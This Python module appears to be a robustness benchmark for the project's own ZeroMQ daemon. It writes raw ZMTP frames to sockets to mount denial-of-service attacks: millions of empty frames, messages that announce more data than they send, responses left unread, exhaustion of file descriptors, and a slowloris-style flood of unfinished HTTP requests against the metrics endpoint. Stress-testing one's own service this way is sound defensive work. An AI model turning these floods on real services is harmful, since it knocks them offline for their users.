"""Attacks on a daemon below the level of messages: frames and connections that our clients do not send.

Where libzmq cannot send such data, ZMTP 3.1 is written directly to a socket.
"""

from __future__ import annotations

import http.client
import socket
import struct
import time
from collections.abc import Iterator, Sequence
from contextlib import ExitStack, closing, contextmanager, suppress
from urllib.parse import urlsplit

import zmq

from nearsight.common.rpc.client import Stub
from nearsight.common.rpc.envelope import PROTOCOL
from nearsight.experiments.bench.attacks import CATALOGUE, HOSTILE, NOT_REFUSED, TIMEOUT_S, Outcome, Victim
from nearsight.experiments.bench.clients import use_keys
from nearsight.protos import catalogue_pb2, rpc_pb2

MIB = 2**20
_STUCK_S = 3.0
"""Timeout of sending: if the daemon reads nothing for this time, the attack stops sending."""
_CHUNK = MIB // 4
_GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32)
_READY = b"\x05READY\x0bSocket-Type\0\0\0\x06DEALER"
_MORE, _LONG, _COMMAND = 1, 2, 4
_TCP_ESTABLISHED = 1


# ---- ZMTP on plain sockets


def frame_bomb(victim: Victim) -> Outcome:
    """One message of millions of empty frames; each has two bytes on the wire."""
    with _raw(victim) as peer:
        sent = _send(peer, bytes([_MORE, 0]) * (4 * MIB - 1) + bytes(2))
        return Outcome(f"{sent / 2e6:.1f} M empty frames, {sent / 1e6:.1f} MB", _refusal([peer], victim))


def encrypted_frame_bomb(victim: Victim) -> Outcome:
    """The same from a client with an allowed key; encryption adds about 35 bytes per frame."""
    frames = 500_000
    with zmq.Context() as context, _dealer(victim, context) as peer:
        for _ in range(frames):
            peer.send(b"", zmq.SNDMORE)
        peer.send(b"")
        answered = peer.poll(int(victim.seconds * 1000))
        return Outcome(f"{frames / 1e6:.1f} M empty frames, CURVE", "answered" if answered else "no answer")


def endless_message(victim: Victim) -> Outcome:
    """A message in which every frame announces another."""
    frame = bytes([_MORE | _LONG]) + struct.pack(">Q", MIB) + bytes(MIB)
    sent = 0
    with _raw(victim) as peer:
        while sent < 1500 * len(frame) and (passed := _send(peer, frame)):
            sent += passed
        return Outcome(f"{sent / MIB:.0f} MiB of one message", _refusal([peer], victim))


def unfinished_messages(victim: Victim) -> Outcome:
    """Connections that stop after 59 of the 60 MiB that they have announced."""
    data = bytes([_LONG]) + struct.pack(">Q", 60 * MIB) + bytes(59 * MIB)
    with ExitStack() as stack:
        peers = [stack.enter_context(_raw(victim)) for _ in range(25)]
        sent = sum(_send(peer, data) for peer in peers)
        return Outcome(f"59 of 60 MiB, 25 times ({sent / MIB:.0f} MiB)", _refusal(peers, victim))


def unread_answers(victim: Victim) -> Outcome:
    """A client that requests models repeatedly and never reads the responses."""
    models = catalogue_pb2.GetObjectModelsRequest(object_ids=victim.objects)
    with victim.channel() as channel:
        one = Stub(channel, CATALOGUE).get_object_models(
            models, timeout_s=TIMEOUT_S, catalogue=victim.catalogue
        )
    asked, wanted = 0, 1 + 1700 * MIB // one.received_bytes
    with _raw(victim) as peer:
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        for asked in range(1, wanted + 1):
            header = rpc_pb2.RequestHeader(
                protocol=PROTOCOL,
                request_id=asked,
                service=CATALOGUE.full_name,
                method="GetObjectModels",
                time_left_ms=60_000,
                client_id=HOSTILE,
                catalogue=victim.catalogue,
                message=models.SerializeToString(),
            ).SerializeToString()
            if not _send(peer, bytes([_LONG]) + struct.pack(">Q", len(header)) + header):
                break
            # The server's queue is bounded, and excess requests are answered as overloaded.
            if not asked % 16:
                time.sleep(0.02)
        sent = f"{asked} requests for {one.received_bytes / MIB:.1f} MiB of models, none read"
        return Outcome(sent, _refusal([peer], victim, reads=False))


# ---- connections


def idle_connections(victim: Victim) -> Outcome:
    """As many idle connections as the daemon has descriptors."""
    with zmq.Context() as context, ExitStack() as stack:
        context.max_sockets = 2048
        for _ in range(1100):
            stack.enter_context(_dealer(victim, context))
        time.sleep(victim.seconds)
    return Outcome("1,100 idle connections, 1,024 descriptors", NOT_REFUSED)


def vanished_connections(victim: Victim) -> Outcome:
    """Connections of clients that disappeared without closing them; only the kernel's buffers remain."""
    with ExitStack() as stack:
        peers = [stack.enter_context(_raw(victim)) for _ in range(300)]
        fate = _refusal(peers, victim)
        kept = sum(not _closed(peer) for peer in peers)
    broken = f"{kept} dead connections kept for {victim.seconds:.0f} s" if kept else ""
    return Outcome("300 connections that answer nothing", fate, broken)


def metrics_flood(victim: Victim) -> Outcome:
    """Connections to the metrics whose HTTP requests are never completed."""
    parts = urlsplit(f"//{victim.metrics}")
    with ExitStack() as stack:
        peers = []
        for _ in range(500):
            with suppress(OSError):
                one = socket.create_connection((parts.hostname or "", parts.port or 0), timeout=1)
                peers.append(stack.enter_context(closing(one)))
                one.sendall(b"GET /metrics HTTP/1.1\r\nHost: ")
        fate = _refusal(peers, victim)
    try:
        with closing(http.client.HTTPConnection(victim.metrics, timeout=2)) as scraper:
            scraper.request("GET", "/metrics")
            scraper.getresponse().read()
        broken = ""
    except (OSError, http.client.HTTPException):
        broken = "no metrics after the attack"
    return Outcome(f"{len(peers)} unfinished HTTP requests", fate, broken)


# ---- tools


@contextmanager
def _raw(victim: Victim) -> Iterator[socket.socket]:
    """A TCP connection after ZMTP's handshake without encryption."""
    parts = urlsplit(victim.endpoint)
    with socket.create_connection((parts.hostname or "", parts.port or 0), timeout=TIMEOUT_S) as peer:
        with suppress(OSError):  # if the connection is refused, the attack fails when it sends
            peer.sendall(_GREETING + bytes([_COMMAND, len(_READY)]) + _READY)
            left = 64 + 2
            while left > 0 and (data := peer.recv(left)):
                left -= len(data)
            peer.recv(256)
        yield peer


@contextmanager
def _dealer(victim: Victim, context: zmq.Context[zmq.Socket[bytes]]) -> Iterator[zmq.Socket[bytes]]:
    with context.socket(zmq.DEALER) as peer:
        peer.linger = 0
        use_keys(peer, victim.security(HOSTILE))
        peer.connect(victim.endpoint)
        yield peer


def _send(peer: socket.socket, data: bytes) -> int:
    """Send data until it is complete, the daemon closes the connection, or sending times out; bytes sent."""
    sent, view = 0, memoryview(data)
    peer.settimeout(_STUCK_S)
    with suppress(OSError):
        while sent < len(data):
            sent += peer.send(view[sent : sent + _CHUNK])
    return sent


def _refusal(peers: Sequence[socket.socket], victim: Victim, *, reads: bool = True) -> str:
    """Keep the connections for the duration of the attack; describe how the daemon handled them."""
    started_s = time.monotonic()
    while time.monotonic() < started_s + victim.seconds and not all(map(_closed, peers)):
        time.sleep(0.02)
    cut = sum(map(_closed, peers))
    if cut:
        after = f" after {time.monotonic() - started_s:.1f} s" if cut == len(peers) else ""
        return f"{cut} of {len(peers)} cut off{after}"
    answered = reads and any(_readable(peer) for peer in peers)
    return "answered with an error" if answered else NOT_REFUSED


def _closed(peer: socket.socket) -> bool:
    """Whether the daemon has closed the connection, even if unread data from it remain."""
    return peer.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] != _TCP_ESTABLISHED


def _readable(peer: socket.socket) -> bool:
    peer.setblocking(False)
    with suppress(OSError):
        return bool(peer.recv(1, socket.MSG_PEEK))
    return False
